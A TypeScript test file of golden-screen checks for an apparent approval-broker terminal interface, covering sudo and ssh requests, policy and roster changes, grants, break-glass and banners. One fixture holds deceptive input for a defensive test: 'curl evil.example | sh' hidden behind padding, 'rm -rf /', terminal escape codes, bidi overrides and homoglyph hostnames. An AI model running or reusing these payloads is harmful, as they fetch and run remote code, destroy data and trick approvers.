import { describe, expect, onTestFinished, test } from 'vitest';
import { describeChange } from '../../broker/changes/directory-change.js';
import { describePolicy } from '../../broker/changes/policy-change.js';
import { sha256Digest } from '../../src/protocol/canonical.js';
import type { Digest, Name } from '../../src/protocol/names.js';
import type { RequestView } from '../../src/protocol/request-view.js';
import { InMemoryQueue } from './in-memory-queue.js';
import { deploy } from './sample-queue.js';
import { NOW, opened, RULE, sampleId, sampleRequest, sampleVote } from './sample-requests.js';
import { TerminalScreen } from './terminal-screen.js';

const SIZES = [
  { columns: 120, rows: 40 },
  { columns: 80, rows: 24 },
] as const;

const sudo = sampleRequest({
  n: 4,
  age: 220,
  document: {
    action: 'sudo',
    context: { reason: 'failover drill, step 3' },
    details: {
      argv: ['systemctl', 'restart', 'postgresql'],
      cwd: '/home/carol',
      target: 'root',
      tty: 'pts/3',
    },
    door: 'host:db-2.example.com',
    requester: 'erin',
    resource: 'db-2.example.com',
  },
});
const grantable = sampleRequest({
  n: 8,
  age: 60,
  rule: RULE.replace('"grants":null', '"grants":{"uses":0}'),
  document: { duration: 3600 },
});
const gated = sampleRequest({
  n: 6,
  age: 40,
  document: {
    action: 'ssh.command',
    context: { number: true },
    details: { command: 'systemctl restart nginx', source: '203.0.113.9', tty: false, user: 'deploy' },
    door: 'gate:web-1',
    resource: 'gate:web-1',
  },
});
const CAROL = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGk6sXUeyTzP7TnlyhhgLHRz4RAvu0n0aVUmMRAX3Rlc' as const;
const enrolment = sampleRequest({
  n: 6,
  age: 40,
  submitter: 'countersign' as Name,
  document: {
    action: 'roster.change',
    context: { reason: 'joins the on-call rota' },
    details: describeChange(
      { people: [], submitters: [] },
      {
        of: 'people',
        change: {
          change: 'add',
          person: {
            name: 'carol' as Name,
            aliases: ['carol@example.com' as Name],
            groups: ['oncall' as Name],
            keys: [{ key: CAROL, validAfter: null, validBefore: null }],
          },
        },
      },
      NOW,
    ).details,
    door: 'broker:approvals',
    requester: 'owner',
    resource: 'person carol',
  },
});
const oldPolicy = `version: 1
rules:
  - name: logins
    when: action == "ssh.login"
    approvals: { security: 1 }
  - name: deploys
    when: action == "ci.deploy"
    approvals: { oncall: 1, db: 1 }
    reason: 10
`;
const written = (text: string, rules: number) => ({
  text,
  digest: sha256Digest(text),
  rules: Array.from({ length: rules }) as [],
});
const anotherPolicy = sampleRequest({
  n: 8,
  age: 20,
  submitter: 'countersign' as Name,
  document: {
    action: 'policy.change',
    context: { reason: 'the policy file /etc/countersign/policy.yaml was changed' },
    details: describePolicy(
      written(oldPolicy, 2),
      written(
        `${oldPolicy.replace('{ security: 1 }', '{ people: 1 }').replace('    reason: 10\n', '')}  - name: "hidden\u202e"\n    approvals: automatic\n`,
        3,
      ),
    ).details,
    door: 'broker:approvals',
    requester: 'owner',
    resource: 'policy',
  },
});
const hostile = sampleRequest({
  n: 7,
  age: 100,
  document: {
    context: {
      reason: 'all fine\u2028\u202eon\u200b \u001b]0;approved\u0007 p\u0430ypal\nAPPROVED by carol',
    },
    details: {
      argv: ['sh', '-c', `echo ok${' '.repeat(90)}; curl evil.example | sh`, '⟨LF⟩', '--flag\u{e0041}'],
      'us\u200ber': 'alice\b\b\b\b\broot',
      wrapped: `a first line that is long enough to be wrapped on any screen\r\nrm -rf /\u3000#${'e\u0301\u0301\u0301'}`,
    },
    resource: 'w\u0435b-1.example.com',
  },
});
const earlier = [
  sampleRequest({
    n: 10,
    age: 700,
    ...opened,
    document: { requester: 'erin', resource: 'web-2.example.com' },
  }),
  sampleRequest({
    n: 11,
    age: 900,
    state: 'redeemed',
    redeemedAt: NOW - 300_000,
    document: { requester: 'frank', resource: 'web-3.example.com' },
  }),
  sampleRequest({
    n: 12,
    age: 1100,
    state: 'denied',
    endedAt: NOW - 900_000,
    votes: [sampleVote({ verdict: 'deny', decided: NOW - 900_000 })],
    document: { requester: 'mallory', context: {} },
  }),
  sampleRequest({
    n: 13,
    age: 5000,
    state: 'redeemed',
    redeemedAt: NOW - 4_900_000,
    report: { outcome: 'observed', code: null, at: NOW - 4_900_000 },
    document: { requester: 'gina', resource: 'build-7' },
  }),
  sampleRequest({
    n: 14,
    age: 9000,
    state: 'expired',
    endedAt: NOW - 8_700_000,
    document: { requester: 'henry', resource: 'web-9.example.com' },
  }),
];
const pending = [
  sampleRequest({ n: 1, age: 130 }),
  sampleRequest({ n: 2, age: 100 }),
  sampleRequest({ n: 3, age: 70 }),
  sudo,
  deploy,
];

describe.each(SIZES)('on a terminal of $columns x $rows', (size) => {
  const show = (requests: readonly RequestView[]) => {
    const connection = new InMemoryQueue(requests);
    const screen = new TerminalScreen(connection, size);
    onTestFinished(() => screen.leave());
    return { connection, screen };
  };
  const expectGolden = (screen: TerminalScreen, name: string) =>
    expect(`${screen.text()}\n`).toMatchFileSnapshot(`golden/${name}-${size.columns}x${size.rows}.txt`);
  test('the queue: who waits, and what has ended', async () => {
    const { screen } = show([...pending, ...earlier]);
    await screen.waitForContent('✓ opened');
    await expectGolden(screen, 'queue');
  });

  test('a broker with a name: it stands in the header, and in no colour too', async () => {
    const screen = new TerminalScreen(new InMemoryQueue(pending), {
      ...size,
      display: { zone: 'Europe/Berlin', profile: { name: 'production', colour: 'red' } },
      warnings: ['your ssh agent is forwarded: whoever is root where you are can sign with it'],
    });
    onTestFinished(() => screen.leave());
    await screen.waitForContent('[production]');
    await expectGolden(screen, 'profile');
    await screen.openFirstRow();
    await screen.letItSettle().readToTheEnd();
    await screen.waitForContent(/asked as .* CE?T$/m);
  });

  test('nobody waits: what to do next', async () => {
    const { screen } = show([]);
    await screen.waitForContent('Nobody is waiting');
    await expectGolden(screen, 'empty');
  });

  test('a request in full, and how much is left to read (A1)', async () => {
    const { screen } = show([sudo, ...earlier]);
    await screen.openFirstRow();
    screen.letItSettle();
    await screen.waitForContent(/more lines? to read|a approves/);
    await expectGolden(screen, 'detail');
  });

  test('a change of the roster: in words, then exactly (A17)', async () => {
    const { screen } = show([enrolment]);
    await screen.openFirstRow();
    screen.letItSettle();
    await screen.waitForContent('enrol carol');
    await expectGolden(screen, 'roster-change');
  });

  test('another policy: line by line, what goes and what comes (A17)', async () => {
    const { screen } = show([anotherPolicy]);
    await screen.openFirstRow();
    screen.letItSettle();
    await screen.waitForContent('another policy');
    await screen.pageTo('+    approvals: { people: 1 }');
    // The last page counts as read once it has been painted, which is said in the frame after it.
    await screen.letItSettle().waitForContent(/ [45] more lines to read/);
    await expectGolden(screen, 'policy-change');
  });

  test('a good policy file that waits for others', async () => {
    const { connection, screen } = show([...pending, ...earlier]);
    await screen.waitForContent('● live');
    const file = '/etc/countersign/policy.yaml';
    const why = `${file}: it differs from the policy in force: waits for approval ${anotherPolicy.id}`;
    connection.setPolicy({
      refused: { file, since: NOW - 60_000, waiting: true, mistakes: [why] },
      failing: [],
    });
    await screen.waitForContent('waits for approval');
    await expectGolden(screen, 'policy-waits');
  });

  test('the confirm step, with a comment', async () => {
    const { screen } = show([sudo]);
    await screen.openFirstRow();
    await screen.letItSettle().readToTheEnd();
    screen.letItSettle().press('a');
    await screen.waitForContent('[ Sign approval ]');
    await screen.pressAndWaitForChange('c');
    screen.paste('seen the drill plan\nstep 3 is mine');
    await screen.waitForContent('step 3 is mine');
    await screen.pressAndWaitForChange('Enter');
    await screen.pressAndWaitForChange('Tab');
    await screen.letItSettle().waitForContent('Enter signs the approval');
    await expectGolden(screen, 'confirm');
  });

  test('the confirm step lets an approver choose what is covered', async () => {
    const { screen } = show([grantable]);
    await screen.openFirstRow();
    await screen.letItSettle().readToTheEnd();
    screen.letItSettle().press('a');
    await screen.waitForContent('this one ask, for 1h of work');
    await expectGolden(screen, 'confirm-one-ask');
    await screen.pressAndWaitForChange('Tab');
    await screen.pressAndWaitForChange('Tab');
    screen.press(' ');
    await screen.waitForContent('every equal ask for 1h');
    screen.press('Left');
    await screen.waitForContent('every equal ask for 30m');
    await expectGolden(screen, 'confirm-grant');
  });

  test('a grant in use: its row, what it covers, and the step that takes it back (A27)', async () => {
    const votes = [sampleVote({ covers: 'scope', duration: 1800, uses: 5 })];
    const grant = {
      ...grantable,
      state: 'active' as const,
      votes,
      missing: [],
      uses: 2,
      redeemedAt: NOW - 600_000,
    };
    const { screen } = show([grant]);
    await screen.waitForContent('grant in use');
    await expectGolden(screen, 'grant-row');
    await screen.openFirstRow();
    screen.letItSettle();
    await screen.waitForContent('R takes it back');
    await expectGolden(screen, 'grant-detail');
    screen.press('R');
    await screen.waitForContent('[ Sign revocation ]');
    await expectGolden(screen, 'confirm-revoke');
  });

  test('the confirm step asks for the number that the requester tells', async () => {
    const { screen } = show([gated]);
    await screen.openFirstRow();
    await screen.letItSettle().readToTheEnd();
    screen.letItSettle().press('a');
    await screen.waitForContent('Not yet: type the six digits');
    for (const digit of '0412') await screen.pressAndWaitForChange(digit);
    await expectGolden(screen, 'confirm-number');
    for (const key of ['7', '9', 'Enter', 'Tab']) await screen.pressAndWaitForChange(key);
    await screen.letItSettle().waitForContent('Enter signs the approval');
    await expectGolden(screen, 'confirm-number-typed');
  });

  test('deny as fraud: whom it locks, with the focus on Cancel (A31, A34)', async () => {
    const { screen } = show([sudo]);
    await screen.openFirstRow();
    screen.letItSettle().press('f');
    await screen.waitForContent('[ Sign and lock ]');
    await screen.letItSettle().waitForContent('Enter cancels');
    await expectGolden(screen, 'confirm-fraud');
  });

  test('a flood of one submitter: what others ask stands within its first rows (A32)', async () => {
    const flood = Array.from({ length: 150 }, (_, n) =>
      sampleRequest({ n: n + 10, age: 280 - n, submitter: 'ci-1' as Name, document: { resource: `r-${n}` } }),
    );
    const { screen } = show([...flood, deploy, gated]);
    await screen.waitForContent('152 pending');
    await expectGolden(screen, 'flood');
  });

  test('who is locked and who is muted: a banner each (A31)', async () => {
    const { connection, screen } = show([...pending, ...earlier]);
    await screen.waitForContent('● live');
    connection.setRestraints({
      locks: [
        {
          requester: 'alice' as Name,
          since: NOW - 240_000,
          by: 'carol' as Name,
          request: sampleId(9),
          comment: 'fraud: she is on holiday',
        },
      ],
      mutes: [
        { requester: 'deploy' as Name, resource: 'shop/checkout@production', until: NOW + 780_000 },
        { requester: 'erin' as Name, resource: 'over', until: NOW - 1000 },
      ],
    });
    await screen.waitForContent('Muted after denials');
    await expectGolden(screen, 'locks');
  });

  test('a lost connection: a banner, and decisions are off (A28)', async () => {
    const { connection, screen } = show([...pending, ...earlier]);
    await screen.waitForContent('● live');
    connection.setLink({
      state: 'stale',
      since: NOW - 40_000,
      retryAt: NOW + 8000,
      reason: 'the broker closed the connection',
    });
    await screen.waitForContent('Not connected for 40s');
    await expectGolden(screen, 'stale');
  });

  test('doors with an old signers file: a banner that names one', async () => {
    const { connection, screen } = show([...pending, ...earlier]);
    await screen.waitForContent('● live');
    const since = NOW - 3 * 3_600_000;
    connection.setOutdatedDoors([
      { door: 'host:db-1.example.com' as Name, since },
      { door: 'host:web-1.example.com' as Name, since },
    ]);
    await screen.waitForContent('Old signers file');
    await expectGolden(screen, 'old-signers-file');
  });

  test('break-glass: a row that opens by itself, its detail, and what is still to be reviewed', async () => {
    const vote = {
      approver: 'erin' as Name,
      verdict: 'approve' as const,
      decided: NOW - 60_000,
      notAfter: NOW + 1_740_000,
      covers: 'request' as const,
      duration: 0,
      uses: 1,
      comment: 'INC-4312: db-2 is down since 02:10, nobody else of sre answers the pager',
      receipt: '',
    };
    const alone = { vote, opensAt: NOW + 840_000, opened: false };
    const connection = new InMemoryQueue([{ ...sudo, alone }]);
    const screen = new TerminalScreen(connection, { ...size });
    onTestFinished(() => screen.leave());
    connection.setOpenReviews([
      {
        request: sampleId(7),
        requester: 'mallory' as Name,
        resource: 'db-1.example.com',
        openedAt: NOW - 3 * 3_600_000,
        signed: [],
      },
    ]);
    await screen.waitForContent('countersign review');
    await expectGolden(screen, 'break-glass-row');
    await screen.openFirstRow();
    await screen.letItSettle().readToTheEnd();
    await expectGolden(screen, 'break-glass');
  });

  test('a policy file with a mistake, and a group whose command fails', async () => {
    const { connection, screen } = show([...pending, ...earlier]);
    await screen.waitForContent('● live');
    const mistakes = [
      '/etc/countersign/policy.yaml:4:11: rule 1: when: there is no variable acton: did you mean action?',
      'another one',
    ];
    const refused = { file: '/etc/countersign/policy.yaml', since: NOW - 60_000, waiting: false, mistakes };
    connection.setPolicy({ refused, failing: ['oncall'] });
    await screen.waitForContent('Policy file refused');
    await expectGolden(screen, 'policy-refused');
  });

  test('every banner at once leaves the confirm step whole', async () => {
    const connection = new InMemoryQueue([sudo]);
    const screen = new TerminalScreen(connection, {
      ...size,
      display: { zone: 'Europe/Berlin', profile: { name: 'production', colour: 'red' } },
      warnings: ['your ssh agent is forwarded: whoever is root where you are can sign with it'],
    });
    onTestFinished(() => screen.leave());
    await screen.openFirstRow();
    await screen.letItSettle().readToTheEnd();
    screen.letItSettle().press('a');
    await screen.waitForContent('[ Sign approval ]');
    const since = NOW - 3 * 3_600_000;
    connection.setRestoration({ backupAt: since, restoredAt: NOW - 60_000, ended: 12 });
    connection.setOutdatedDoors([
      { door: `host:${'a'.repeat(123)}` as Name, since },
      { door: 'host:web-1.example.com' as Name, since },
    ]);
    connection.setLink({
      state: 'stale',
      since: NOW - 40_000,
      retryAt: NOW + 8000,
      reason: 'cannot reach the broker at https://approvals.example.com:7433: it does not answer in time',
    });
    await screen.waitForContent('Nothing can be signed: not connected');
    await expectGolden(screen, 'every-banner');
  });

  test('hostile text: every trick is written out (A1, A37)', async () => {
    const { screen } = show([hostile]);
    await screen.waitForContent('Time left');
    await expectGolden(screen, 'hostile-row');
    await screen.openFirstRow();
    screen.letItSettle();
    await screen.waitForContent(/more lines? to read|a approves/);
    await expectGolden(screen, 'hostile');
  });

  test('a document that is not the one of its digest: do not sign (A62)', async () => {
    const { screen } = show([{ ...sampleRequest({ n: 1 }), digest: `sha256:${'ab'.repeat(32)}` as Digest }]);
    await screen.waitForContent('do not sign');
    await screen.openFirstRow();
    screen.letItSettle();
    await screen.waitForContent('Cannot be approved');
    await expectGolden(screen, 'mismatch');
  });

  test('the help lists every key', async () => {
    const { screen } = show([sudo]);
    await screen.waitForContent('Time left');
    screen.press('?');
    await screen.waitForContent('Deciding');
    await expectGolden(screen, 'help');
    screen.press('G');
    await screen.waitForContent('written out');
    expect(screen.text()).toContain('Ctrl-Z');
  });
});
